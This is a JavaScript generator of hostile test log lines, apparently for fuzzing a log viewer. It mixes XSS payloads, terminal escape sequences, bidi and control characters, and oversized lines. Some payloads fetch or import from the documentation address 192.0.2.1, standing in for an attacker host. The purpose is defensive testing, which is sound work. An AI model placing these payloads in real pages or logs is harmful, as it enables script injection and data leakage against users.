// A thousand lines that would do harm if log text were anything but text, made from a seed: what people put into logs by accident and on purpose, put together, cut, doubled and spelled otherwise.

const ESC = "\u001b";
/** A line may have so many bytes; with its JSON around it. */
const BYTES_MAX = 256 << 10;

/** Each by itself. */
export const TEXTS = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  "<img src=http://192.0.2.1/leak.png>",
  "<svg onload=window.pwned=1><a href=javascript:window.pwned=1>x</a></svg>",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=//192.0.2.1/x.css>",
  "<iframe src=javascript:parent.pwned=1></iframe>",
  "<base href=//192.0.2.1/>",
  "<meta http-equiv=refresh content='0;url=//192.0.2.1/'>",
  "</pre></li></ol></main><h1>gone</h1>",
  "javascript:window.pwned=1//",
  "{{constructor.constructor('window.pwned=1')()}}",
  "${window.pwned=1}`+(window.pwned=1)+`",
  "&lt;script&gt;&#60;script&#62; &quot;&apos;",
  "' onmouseover='window.pwned=1",
  '" autofocus onfocus="window.pwned=1',
  `${ESC}[31mred${ESC}[0m ${ESC}[1;4;5mloud${ESC}[0m ${ESC}[2J${ESC}[H cleared`,
  `${ESC}]0;title\u0007${ESC}]8;;http://192.0.2.1/\u0007link${ESC}]8;;\u0007`,
  "\u202Egnp.exe\u202C and \u2066isolate\u2069 and \u200Fmark",
  "\u0000\u0001\u0008\u000b\u000c\u001f\u007f\u0085 controls",
  "zero\u200Bwidth\uFEFF and \u2028separators\u2029",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d".repeat(60),
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}".repeat(80),
  "\uD800 lone surrogate".replace("\uD800", "\uFFFD"),
  "A".repeat(20_000),
  "word ".repeat(5_000),
  "\t".repeat(4_000) + "tabs",
  "line\n".repeat(3_000),
  "W".repeat(250_000),
  "漢字かな交じり文".repeat(2_000),
  "__proto__ constructor toString hasOwnProperty",
];

const TAGS = ["script", "img", "svg", "iframe", "object", "embed", "video", "math", "form", "input", "details open", "template", "noscript", "textarea", "title", "style", "base", "link", "meta", "a", "button", "marquee", "body", "x:script xmlns:x=http://www.w3.org/1999/xhtml", "animate", "foreignObject"];
const ATTRIBUTES = ["src", "href", "srcset", "data", "action", "formaction", "xlink:href", "onerror", "onload", "onfocus autofocus tabindex=1 data-x", "onclick", "ontoggle", "onanimationstart", "style", "srcdoc", "http-equiv=refresh content", "id", "name", "ping", "poster", "background"];
const PAYLOADS = ["window.pwned=1", "javascript:window.pwned=1", "data:text/html,<script>parent.pwned=1</script>", "//192.0.2.1/x", "http://192.0.2.1/leak?x", "JaVaScRiPt:window.pwned=1", "java\tscript:window.pwned=1", "alert(1)", "confirm`1`", "fetch('//192.0.2.1')", "url(//192.0.2.1/x.png)", "expression(window.pwned=1)", "import('//192.0.2.1/x.js')", "app", "rows", "0;url=//192.0.2.1/"];
const SIGNS = ["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u2028", "\u2029", "\u0000", "\u0007", "\u0008", "\u000b", "\u001b", "\u007f", "\u0085", "\u009b", "\ufffd", "\uffff", "\u{1f4a9}", "\u{e0001}", "\u0600", "\ufdfd", "\u0e49".repeat(30), "\u1160", "ﷺ", "א", "ب", "\r"];
const GLUE = ["", " ", "\n", "\t", "\"", "'", "`", "\\", "<", ">", "&", "=", "/*", "*/", "<!--", "-->", "]]>", "<![CDATA[", "\u0000", ", "];

/** Numbers from 0 up to 1 that are the same for the same seed. @param {number} seed */
function dice(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** As many records as wanted, each with the mark and its number. @param {number} seed @param {number} count @param {string} mark */
export function hostile(seed, count, mark) {
  const random = dice(seed);
  const below = (most) => Math.floor(random() * most);
  const one = (list) => list[below(list.length)];
  const quote = () => one(["", "'", '"', "`"]);
  const sign = () => one(SIGNS);
  const tag = () => {
    const around = quote();
    return `<${one(["", "/", "!", "?"]).repeat(random() < 0.15 ? 1 : 0)}${one(TAGS)}${one([" ", "/", "\t", "\n", "\u000c"])}${one(ATTRIBUTES)}=${around}${one(PAYLOADS)}${around}${one([">", "/>", "", " >"])}`;
  };
  const escape = () => one([() => `${ESC}[${Array.from({ length: below(5) }, () => below(260)).join(";")}${one([..."mABCDEFGHJKSTfhlnsu"])}`, () => `${ESC}]${below(60)};${one(PAYLOADS)}\u0007`, () => `\u009b${below(99)}m`, () => `${ESC}P${one(PAYLOADS)}${ESC}\\`])();
  const noise = () => Array.from({ length: 1 + below(30) }, () => String.fromCodePoint(one([below(0x20), 0x20 + below(0x60), below(0xd800), 0xe000 + below(0x2000), 0x1f000 + below(0x1000)]))).join("");
  const piece = () => one([() => one(TEXTS).slice(0, 1 + below(400)), tag, tag, tag, escape, sign, noise])();
  const spelled = (text) => {
    switch (below(8)) {
      case 0: return text.toUpperCase();
      case 1: return encodeURIComponent(text.toWellFormed());
      case 2: return [...text].map((char) => `&#${char.codePointAt(0)};`).join("");
      case 3: return [...text].join(one(["\u200b", "\u0000", " "]));
      case 4: return text + text;
      default: return text;
    }
  };
  const text = (at) => {
    if (at < TEXTS.length) return TEXTS[at];
    const made = Array.from({ length: 1 + below(6) }, () => spelled(piece())).join(one(GLUE));
    // Some are long, and a few as long as a line may be.
    const size = at % 101 === 0 ? BYTES_MAX : at % 37 === 0 ? 20_000 : 0;
    return size > 0 ? `${made}${one([made, sign(), "W", tag(), "👩‍👧 "]) || "W"}`.repeat(Math.ceil(size / Math.max(made.length, 1))).slice(0, size) : made;
  };
  const time = new Date().toISOString();
  return Array.from({ length: count }, (_, at) => {
    const id = `${mark} ${at}`;
    for (let what = text(at); ; what = what.slice(0, what.length * 0.8)) {
      const line = record(at % 4, id, what.toWellFormed(), time, at);
      if (Buffer.byteLength(line) < BYTES_MAX) return line;
    }
  });
}

/** As a message, as a value and a name below it, as names and ids, and as text that is no JSON. */
function record(form, id, text, time, at) {
  const key = text.slice(0, 60).toWellFormed();
  switch (form) {
    case 0: return JSON.stringify({ timestamp: time, level: "error", message: `${id} ${text}`, request_id: `hostile-${at}-00000000` });
    case 1: return JSON.stringify({ timestamp: time, level: "warn", message: id, extra: { value: text.slice(0, 30_000).toWellFormed(), nested: { [key]: text.slice(0, 200).toWellFormed() } } });
    case 2: return JSON.stringify({ timestamp: time, level: text.slice(0, 40).toWellFormed(), logger: key, message: id, request_id: text.slice(0, 100).toWellFormed(), [key]: key });
    default: return `${id} ${text.replaceAll(/[\r\n]/g, " ")}`;
  }
}
